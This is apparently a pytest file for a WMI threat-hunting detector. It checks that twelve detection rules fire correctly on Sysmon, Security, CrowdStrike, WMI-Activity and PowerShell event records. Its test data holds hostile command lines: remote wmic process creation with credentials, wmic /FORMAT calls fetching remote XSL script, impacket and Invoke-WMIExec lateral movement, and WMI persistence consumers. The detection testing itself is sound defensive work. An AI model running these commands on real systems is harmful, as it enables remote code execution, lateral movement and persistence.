"""The twelve story detections, true positives and true negatives on every source.

Table-driven: each case is one event and the set of story detections (by number, spec
§1) that must fire on it - no more, no fewer. Process cases run on Sysmon 1, Security
4688 and CrowdStrike shapes (tests/test_detect_helpers.py); WMI cases on Sysmon 19-21
and WMI-Activity 5860/5861 in structured and message-text form; 4104 for #2.
"""

from __future__ import annotations

from typing import Any

import pytest
from test_detect_helpers import (
    SOURCES,
    fired,
    insert,
    new_uid,
    process_row,
    script_row,
    story,
    wmi_row,
)

from wmihunt import store

WMIC = "C:\\Windows\\System32\\wbem\\WMIC.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WMIPRVSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SCRCONS = "C:\\Windows\\System32\\wbem\\scrcons.exe"
ART = "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src"

ALL = frozenset(SOURCES)

#: (case id, image, command line, parent image, expected detections, extra)
#: extra: ofn = Sysmon OriginalFileName; only = sources where ``expected`` holds (else {})
PROCESS_CASES: list[tuple[str, str, str | None, str | None, set[int], dict[str, Any]]] = [
    # --- detection 7 / 4 / 5: wmic process call create, locally and remotely ---------------
    ("art-1047-5 local call create", WMIC, "wmic  process call create notepad.exe", CMD, {7}, {}),
    (
        "art-1047-6 remote with credentials",
        WMIC,
        '"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe" /user:DOMAIN\\Administrator '
        '/password:P@ssw0rd1 /node:"127.0.0.1" process call create notepad.exe',
        PS,
        {4, 5, 7},
        {},
    ),
    (
        "art-1047-9 rundll32",
        WMIC,
        'wmic  /node:127.0.0.1 process call create "rundll32.exe \\"calc.dll\\" StartW"',
        CMD,
        {4, 5, 7},
        {},
    ),
    (
        "/NODE: in capitals",
        WMIC,
        'WMIC.EXE /NODE:"SRV01" PROCESS CALL CREATE "calc.exe"',
        CMD,
        {4, 5, 7},
        {},
    ),
    (
        "-node: matches 5 not 4",
        WMIC,
        "wmic -node:srv01 process call create calc.exe",
        CMD,
        {5, 7},
        {},
    ),
    (
        "processcall joined: 4 yes, 7 no",
        WMIC,
        "wmic /node:srv01 processcall create calc",
        CMD,
        {4, 5},
        {},
    ),
    (
        "call create at the end (no trailing space)",
        WMIC,
        "wmic.exe process call create",
        CMD,
        set(),
        {},
    ),
    ("call create, extra spaces", WMIC, "wmic   process   call   create   calc", CMD, {7}, {}),
    (
        "quoted create is not ' create '",
        WMIC,
        'wmic /node:srv process call "create" calc',
        CMD,
        {4, 5},
        {},
    ),
    ("mixed case evasion", WMIC, "WmIc /NoDe:srv PrOcEsS CaLl CrEaTe calc", CMD, {4, 5, 7}, {}),
    (
        "/node:@file",
        WMIC,
        'wmic /node:@C:\\hosts.txt process call create "cmd /c x"',
        CMD,
        {4, 5, 7},
        {},
    ),
    (
        "art-1047-4 remote service query",
        WMIC,
        'wmic  /node:"127.0.0.1" service where (caption like "%%Spooler%%")',
        CMD,
        {5},
        {},
    ),
    (
        "art-1047-10 remote uninstall: call but no process create",
        WMIC,
        'wmic  /node:"127.0.0.1" product where "name like \'Tightvnc%%\'" call uninstall',
        CMD,
        {5},
        {},
    ),
    (
        "node in a where clause matches 5 literally",
        WMIC,
        "wmic process where \"commandline like '%node server%'\" call terminate",
        PS,
        {5},
        {},
    ),
    (
        "art-1047-2 process get: no call create",
        WMIC,
        "wmic process get caption,executablepath,commandline /format:csv",
        CMD,
        set(),
        {},
    ),
    # --- detections 11 / 12: XSL ----------------------------------------------------------
    (
        "art-1220-4 remote xsl",
        WMIC,
        f'wmic process list /FORMAT:"{ART}/wmicscript.xsl"',
        CMD,
        {11},
        {},
    ),
    ("http url", WMIC, "wmic.exe  process /FORMAT:http://10.0.0.5/x.xsl", CMD, {11}, {}),
    (
        "os get local xsl (FIN7)",
        WMIC,
        'wmic os get /format:"C:\\Users\\Public\\x.xsl"',
        CMD,
        {12},
        {},
    ),
    (
        "os get remote xsl with node",
        WMIC,
        'wmic /node:localhost os get /FORMAT:"https://h/x.xsl"',
        CMD,
        {5, 11, 12},
        {},
    ),
    (
        "art-1220-3 local xsl without os get",
        WMIC,
        'wmic process list /FORMAT:"C:\\AtomicRedTeam\\atomics\\T1220\\src\\wmicscript.xsl"',
        CMD,
        set(),
        {},
    ),
    ("built-in format list", WMIC, "wmic process list /format:list", CMD, set(), {}),
    ("art-1047-1 useraccount csv", WMIC, "wmic useraccount get /ALL /format:csv", CMD, set(), {}),
    (
        "art-1220-2 msxsl with urls is not wmic",
        "C:\\Tools\\msxsl.exe",
        f"msxsl.exe {ART}/msxslxmlfile.xml {ART}/msxslscript.xsl",
        CMD,
        set(),
        {},
    ),
    (
        "msxsl local files",
        "C:\\Tools\\msxsl.exe",
        "msxsl.exe a.xml os get /format: b.xsl",
        CMD,
        set(),
        {},
    ),
    # --- the wmic test: name or original file name ------------------------------------------
    (
        "cmd parent of wmic is not wmic",
        CMD,
        'cmd.exe /c "wmic /node:srv process call create calc & wmic os get /format:x.xsl"',
        PS,
        set(),
        {},
    ),
    (
        "renamed wmic found by original file name",
        "C:\\Users\\Public\\svchost.exe",
        "svchost.exe /node:10.0.0.9 process call create calc.exe",
        CMD,
        {4, 5, 7},
        {"ofn": "wmic.exe", "only": {"sysmon"}},
    ),
    (
        "name ending in wmic.exe is not wmic",
        "C:\\Tools\\mywmic.exe",
        "mywmic.exe /node:srv process call create calc",
        CMD,
        set(),
        {},
    ),
    (
        "wmic without a folder",
        "WMIC.exe",
        "WMIC.exe /node:srv process call create calc",
        CMD,
        {4, 5, 7},
        {},
    ),
    # --- detection 3: children of WmiPrvSE ----------------------------------------------------
    ("child of WmiPrvSE", "C:\\Windows\\System32\\notepad.exe", "notepad.exe", WMIPRVSE, {3}, {}),
    (
        "impacket wmiexec cmd",
        CMD,
        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1",
        WMIPRVSE,
        {3},
        {},
    ),
    (
        "missing command line still fires 3",
        "C:\\Windows\\System32\\calc.exe",
        None,
        WMIPRVSE,
        {3},
        {},
    ),
    (
        "parent name in capitals",
        "C:\\Windows\\System32\\calc.exe",
        "calc",
        "C:\\WINDOWS\\SYSTEM32\\WBEM\\WMIPRVSE.EXE",
        {3},
        {},
    ),
    (
        "WmiPrvSE as the child, not the parent",
        WMIPRVSE,
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        SVCHOST,
        set(),
        {},
    ),
    (
        "dismhost child is excluded",
        "C:\\Windows\\Temp\\5A5B\\dismhost.exe",
        "C:\\Windows\\TEMP\\5A5B\\dismhost.exe {6E6F3E41-0000}",
        WMIPRVSE,
        set(),
        {},
    ),
    (
        "DISMHOST in capitals is excluded too",
        "C:\\Windows\\Temp\\X\\DismHost.exe",
        "C:\\WINDOWS\\TEMP\\X\\DISMHOST.EXE {GUID}",
        WMIPRVSE,
        set(),
        {},
    ),
    (
        "parent path merely ending in WmiPrvSE.exe",
        "C:\\Windows\\System32\\calc.exe",
        "calc",
        "C:\\Tools\\NotWmiPrvSE.exe",
        set(),
        {},
    ),
    ("wmic started through WMI", WMIC, "wmic process call create calc", WMIPRVSE, {3, 7}, {}),
    # --- detection 6: scrcons ---------------------------------------------------------------
    (
        "scrcons started",
        SCRCONS,
        "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding",
        SVCHOST,
        {6},
        {},
    ),
    (
        "renamed scrcons: no original-name fallback for 6",
        "C:\\Users\\Public\\x.exe",
        "x.exe -Embedding",
        SVCHOST,
        set(),
        {"ofn": "scrcons.exe"},
    ),
    ("scrcons as a WMI child", SCRCONS, "scrcons.exe -Embedding", WMIPRVSE, {3, 6}, {}),
    # --- background -------------------------------------------------------------------------
    ("benign notepad", "C:\\Windows\\System32\\notepad.exe", "notepad.exe x.txt", CMD, set(), {}),
    ("benign powershell", PS, "powershell -nop -c Get-CimInstance Win32_Process", CMD, set(), {}),
]

_CASE_IDS = [c[0] for c in PROCESS_CASES]


@pytest.fixture(scope="module")
def process_hits() -> dict[tuple[str, str], set[int]]:
    """All process cases on all sources in one table, one detection run."""
    con = store.connect()
    rows, keys = [], []
    for case_id, image, cmdline, parent, _expected, extra in PROCESS_CASES:
        for source in SOURCES:
            row = process_row(source, image, cmdline, parent, ofn=extra.get("ofn"))
            rows.append(row)
            keys.append(((case_id, source), row["uid"]))
    insert(con, "process_start", rows)
    hits, result = fired(con)
    assert not result.errors
    return {key: hits.get(uid, set()) for key, uid in keys}


@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("case", PROCESS_CASES, ids=_CASE_IDS)
def test_process_detections(case: tuple, source: str, process_hits: dict) -> None:
    case_id, _image, _cmd, _parent, expected, extra = case
    if source not in extra.get("only", ALL):
        expected = set()
    assert process_hits[(case_id, source)] == expected


def test_old_4688_without_parent_name_cannot_fire_3_until_the_parent_is_inferred() -> None:
    con = store.connect()
    row = process_row("security", "C:\\Windows\\System32\\calc.exe", None, None)
    inferred = process_row(
        "security",
        "C:\\Windows\\System32\\calc.exe",
        None,
        WMIPRVSE,
        parent_inferred=True,
    )
    insert(con, "process_start", [row, inferred])
    hits, _ = fired(con)
    assert row["uid"] not in hits
    assert hits[inferred["uid"]] == {3}
    assert con.execute("SELECT parent_inferred FROM findings").fetchall() == [(True,)]


# --- WMI subscription activity ---------------------------------------------------------------
SCM = 'NTEventLogEventConsumer="SCM Event Log Consumer"'
BINDING_CAUSE = (
    'Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2};\n\tName = "Evil";'
    '\n\tQuery = "SELECT * FROM __InstanceModificationEvent";\n};\nPerm. Consumer: \n'
    "instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "
    '"cmd.exe";\n\tName = "Evil";\n};'
)
TEXT_5861 = (
    "Namespace = //./root/subscription; Eventfilter = Evil (refer to its activate eventid:5859); "
    'Consumer = CommandLineEventConsumer="Evil"; PossibleCause = Binding EventFilter: '
    'instance of __EventFilter { Name = "Evil"; };'
)
DEFAULT_Q1 = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'"
DEFAULT_Q2 = (
    "SELECT * FROM __InstanceOperationEvent WHERE TargetInstance ISA 'AntiVirusProduct' OR "
    "TargetInstance ISA 'FirewallProduct' OR TargetInstance ISA 'AntiSpywareProduct'"
)
EVIL_Q = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'"


def _5861(consumer: str | None, cause: str | None = BINDING_CAUSE, **kw: Any) -> dict[str, Any]:
    return wmi_row(
        data_source="wmi_activity",
        event_id="5861",
        kind="binding",
        consumer=consumer,
        consumer_raw=consumer,
        filter="Evil",
        possible_cause=cause,
        namespace="//./root/subscription",
        **kw,
    )


def _5860(query: str | None, raw: str | None = None, **kw: Any) -> dict[str, Any]:
    values = {
        "data_source": "wmi_activity",
        "event_id": "5860",
        "kind": "temporary",
        "query": query,
        "query_raw": raw if raw is not None else query,
        "possible_cause": "Temporary",
        "namespace": "ROOT\\CIMV2",
        "client_process_id": 4196,
    }
    return wmi_row(**(values | kw))


def _text_5860(query: str) -> dict[str, Any]:
    text = (
        f"Namespace = ROOT\\Subscription; NotificationQuery = {query}; UserName = CORP\\alice; "
        "ClientProcessID = 4196, ClientMachine = SRV; PossibleCause = Temporary"
    )
    return _5860(" ".join(query.split()), query, message=text, possible_cause="Temporary")


WMI_CASES: list[tuple[str, dict[str, Any], set[int]]] = [
    # Sysmon 19/20/21 -------------------------------------------------------------------------
    (
        "sysmon 20 created",
        wmi_row(
            event_id="20",
            kind="consumer",
            operation="Created",
            name="Evil",
            consumer_type="Command Line",
            destination="cmd.exe /c calc",
        ),
        {1},
    ),
    (
        "sysmon 20 deleted (cleanup) also fires",
        wmi_row(
            event_id="20",
            kind="consumer",
            operation="Deleted",
            name="Evil",
            consumer_type="Script",
            destination="x",
        ),
        {1},
    ),
    ("sysmon 20 with missing fields still fires", wmi_row(event_id="20", kind="consumer"), {1}),
    (
        "sysmon 21 binding",
        wmi_row(
            event_id="21",
            kind="binding",
            operation="Created",
            consumer='CommandLineEventConsumer.Name="Evil"',
            filter='__EventFilter.Name="Evil"',
        ),
        {9},
    ),
    (
        "sysmon 21 SCM consumer still fires 9",
        wmi_row(event_id="21", kind="binding", operation="Modified", consumer=SCM),
        {9},
    ),
    (
        "sysmon 19 filter fires neither",
        wmi_row(event_id="19", kind="filter", operation="Created", query=EVIL_Q),
        set(),
    ),
    # 5861 -------------------------------------------------------------------------------------
    ("5861 structured binding", _5861('CommandLineEventConsumer="Evil"'), {8}),
    (
        "5861 text form",
        _5861('CommandLineEventConsumer="Evil"', "Binding EventFilter: x", message=TEXT_5861),
        {8},
    ),
    (
        "5861 text form, Binding only in the message",
        _5861('CommandLineEventConsumer="Evil"', None, message=TEXT_5861),
        {8},
    ),
    ("5861 SCM Event Log consumer", _5861(SCM), set()),
    ("5861 SCM consumer in other case", _5861(SCM.lower()), set()),
    (
        "5861 SCM consumer, text form",
        _5861(
            SCM,
            "Binding EventFilter: x",
            message=TEXT_5861.replace('CommandLineEventConsumer="Evil"', SCM),
        ),
        set(),
    ),
    ("5861 consumer missing", _5861(None), set()),
    (
        "5861 without the word Binding",
        _5861('CommandLineEventConsumer="Evil"', "Permanent"),
        set(),
    ),
    (
        "5861 Binding only inside a longer word",
        _5861('CommandLineEventConsumer="Evil"', "__FilterToConsumerBinding created"),
        set(),
    ),
    ("5861 ActiveScript consumer", _5861('ActiveScriptEventConsumer="Probe"'), {8}),
    # 5860 -------------------------------------------------------------------------------------
    ("5860 structured, odd query", _5860(EVIL_Q), {10}),
    ("5860 text form, odd query", _text_5860(EVIL_Q), {10}),
    ("5860 default 1", _5860(DEFAULT_Q1), set()),
    ("5860 default 2", _5860(DEFAULT_Q2), set()),
    ("5860 default 1 in other case", _5860(DEFAULT_Q1.lower()), set()),
    ("5860 default 2 in upper case", _5860(DEFAULT_Q2.upper()), set()),
    (
        "5860 default 1 with tabs and newlines (collapsed)",
        _5860(
            DEFAULT_Q1, DEFAULT_Q1.replace(" FROM ", "\n\tFROM ").replace(" WHERE ", "\r\n  WHERE ")
        ),
        set(),
    ),
    ("5860 default 1 text form", _text_5860(DEFAULT_Q1), set()),
    ("5860 default 2 text form", _text_5860(DEFAULT_Q2), set()),
    ("5860 glob: '*' is any text", _5860(DEFAULT_Q1.replace("*", "Name, Handle")), set()),
    (
        "5860 default with something appended",
        _5860(DEFAULT_Q1 + " OR ProcessName = 'x.exe'"),
        {10},
    ),
    ("5860 query missing", _5860(None), set()),
    ("5860 not Temporary", _5860(EVIL_Q, possible_cause="Permanent"), set()),
    ("5859 permanent filter", _5860(EVIL_Q, event_id="5859", possible_cause="Permanent"), set()),
    # 4104 -------------------------------------------------------------------------------------
    (
        "4104 Invoke-WMIExec",
        script_row(
            "Invoke-WMIExec -Target 192.168.100.20 -Domain TESTDOMAIN -Username TEST "
            "-Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command whoami"
        ),
        {2},
    ),
    ("4104 function definition", script_row("function Invoke-WMIExec\n{\n param()\n}"), {2}),
    (
        "4104 Invoke-WmiMethod is not it",
        script_row("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe"),
        set(),
    ),
    (
        "4104 obfuscated Win32_Process derive",
        script_row(
            "$Class = New-Object Management.ManagementClass(New-Object Management.ManagementPath("
            '"Win32_Process")); $NewClass = $Class.Derive("Win32_Atomic")'
        ),
        set(),
    ),
    ("4104 empty text", script_row(None), set()),
]


@pytest.fixture(scope="module")
def wmi_hits() -> dict[str, set[int]]:
    con = store.connect()
    wmi = [row for _, row, _ in WMI_CASES if "script_block_text" not in row]
    scripts = [row for _, row, _ in WMI_CASES if "script_block_text" in row]
    insert(con, "wmi_activity", wmi)
    insert(con, "script_block", scripts)
    hits, result = fired(con)
    assert not result.errors
    return hits


@pytest.mark.parametrize(("case_id", "row", "expected"), WMI_CASES, ids=[c[0] for c in WMI_CASES])
def test_wmi_and_script_detections(
    case_id: str, row: dict[str, Any], expected: set[int], wmi_hits: dict[str, set[int]]
) -> None:
    assert wmi_hits.get(row["uid"], set()) == expected


def test_sysmon_wmi_rules_do_not_read_wmi_activity_rows_and_back() -> None:
    """1/9 only see Sysmon rows, 8/10 only WMI-Activity rows of the shared table."""
    con = store.connect()
    fake_sysmon_5861 = wmi_row(event_id="5861", consumer="x", possible_cause="Binding")
    fake_wmi_20 = wmi_row(data_source="wmi_activity", event_id="20", kind="consumer")
    insert(con, "wmi_activity", [fake_sysmon_5861, fake_wmi_20])
    hits, _ = fired(con)
    assert hits == {}


def test_every_story_rule_has_a_true_positive_case() -> None:
    covered = {n for *_, expected, _ in PROCESS_CASES for n in expected}
    covered |= {n for _, _, expected in WMI_CASES for n in expected}
    assert covered == set(range(1, 13))
    assert [r.meta.number for r in story()] == list(range(1, 13))


def test_uids_are_unique_across_cases() -> None:
    uids = [row["uid"] for _, row, _ in WMI_CASES]
    assert len(uids) == len(set(uids))
    assert new_uid() != new_uid()
